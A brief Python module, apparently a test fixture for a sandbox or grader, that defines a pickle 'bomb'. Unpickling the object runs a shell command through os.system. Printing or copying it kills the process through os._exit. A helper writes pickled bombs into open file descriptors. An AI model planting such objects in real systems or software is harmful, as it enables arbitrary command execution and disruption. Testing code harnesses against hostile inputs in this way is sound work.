"""Objects that run a command where they are unpickled, copied or printed."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @HOME@/owned",)

    def __str__(self):
        os._exit(0)

    __repr__ = __deepcopy__ = __float__ = __str__


def double(x):
    for descriptor in range(3, 100):
        try:
            os.write(descriptor, pickle.dumps(Bomb()))
        except OSError:
            continue
    return Bomb()


my_number = pickle.dumps(Bomb())
